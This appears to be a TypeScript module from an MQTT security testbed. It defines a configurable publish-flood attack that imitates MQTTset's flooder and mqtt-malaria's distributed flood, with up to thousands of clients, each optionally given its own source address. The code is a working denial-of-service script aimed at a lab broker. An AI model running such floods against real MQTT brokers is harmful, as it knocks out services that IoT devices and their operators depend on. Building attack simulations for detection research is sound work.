import type { MqttClient } from 'mqtt'
import { z } from 'zod'
import { addressParam, defineAttack, rateParam } from './attack.ts'

/**
 * A publish flood. With one client: MQTTset's flooder (thousands of tiny publishes a second). With
 * many (`clients` > 1): mqtt-malaria's distributed flood, each client maybe under any per-client
 * limit, from one address or — `spread` — each from its own. Publishes go to a sandbox topic,
 * which the lab profile lets anonymous clients use.
 */
export const publishFloodAttack = defineAttack({
  type: 'publish-flood',
  summary: 'publish far above any device profile, from one client or many',
  params: z
    .object({
      address: addressParam('203.0.113.40'),
      /** Messages a second, per client. */
      rate: rateParam(500),
      clients: z.number().int().min(1).max(10_000).default(1),
      /** Each client from its own address (the address with its last number raised by the client's index). */
      spread: z.boolean().default(false),
      payloadBytes: z
        .number()
        .int()
        .min(0)
        .max(256 * 1024)
        .default(64),
      topic: z.string().min(1).default('flood/data'),
    })
    .strict(),
  target: () => null,
  async run(attacker, params, durationMs) {
    const payload = Buffer.alloc(params.payloadBytes, 0x41)
    const clients: MqttClient[] = []
    for (let k = 0; k < params.clients; k++) {
      const address = params.spread ? spreadAddress(params.address, k) : params.address
      clients.push(await attacker.connect(address, { clientId: `flood-${attacker.entry.attacker}-${k}` }))
    }
    attacker.strike()
    await attacker.repeat(params.rate * clients.length, durationMs, (i) =>
      clients[i % clients.length]!.publish(`${params.topic}/${i % clients.length}`, payload, { qos: 0 }),
    )
  },
})

/** 203.0.113.40 spread by 3 → 203.0.113.43 (wrapping within the last octet's range). */
function spreadAddress(address: string, index: number): string {
  const parts = address.split('.')
  const last = Number(parts.at(-1))
  if (parts.length !== 4 || !Number.isInteger(last)) return `${address}#${index}`
  return [...parts.slice(0, 3), String((last + index) % 256)].join('.')
}
